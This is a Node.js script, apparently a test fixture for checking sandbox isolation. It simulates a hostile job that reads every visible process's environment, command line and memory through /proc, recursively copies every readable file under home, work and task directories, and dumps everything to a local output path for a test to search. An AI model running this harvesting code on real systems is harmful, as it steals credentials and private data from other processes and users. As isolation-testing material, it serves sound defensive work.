// A hostile job's search for secrets: every readable /proc/*/environ, cmdline and memory
// region of every process it can see, and every readable file under the work root, HOME, the
// cwd and /var/task. It copies all of it out to $EXFIL for the test to search.
'use strict';
const fs = require('fs');
const path = require('path');

const out = fs.openSync(path.join(process.env.EXFIL, `scan-${process.pid}.bin`), 'w');
const take = (buffer) => fs.writeSync(out, buffer);
const work = path.dirname(path.dirname(process.env.HOME));

function readMemory(pid) {
  let maps = '';
  try {
    maps = fs.readFileSync(`/proc/${pid}/maps`, 'utf8');
  } catch {
    return;
  }
  let fd;
  try {
    fd = fs.openSync(`/proc/${pid}/mem`, 'r');
  } catch {
    return;
  }
  let budget = 512 * 1024 * 1024;
  for (const line of maps.split('\n')) {
    const match = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
    if (!match) continue;
    const start = parseInt(match[1], 16);
    const length = parseInt(match[2], 16) - start;
    if (length > 256 * 1024 * 1024 || length > budget) continue;
    budget -= length;
    const buffer = Buffer.alloc(length);
    try {
      const read = fs.readSync(fd, buffer, 0, length, start);
      take(buffer.subarray(0, read));
    } catch {
      // an unreadable region
    }
  }
  fs.closeSync(fd);
}

for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  if (Number(pid) === process.pid) continue;
  for (const file of ['environ', 'cmdline']) {
    try {
      take(fs.readFileSync(`/proc/${pid}/${file}`));
    } catch {
      // not readable
    }
  }
  readMemory(pid);
}

function walk(dir, depth = 0) {
  if (depth > 12) return;
  let entries = [];
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) walk(full, depth + 1);
    else if (entry.isFile()) {
      try {
        take(fs.readFileSync(full));
      } catch {
        // not readable
      }
    }
  }
}
for (const dir of [work, process.env.HOME, process.cwd(), '/var/task']) walk(dir);
fs.closeSync(out);
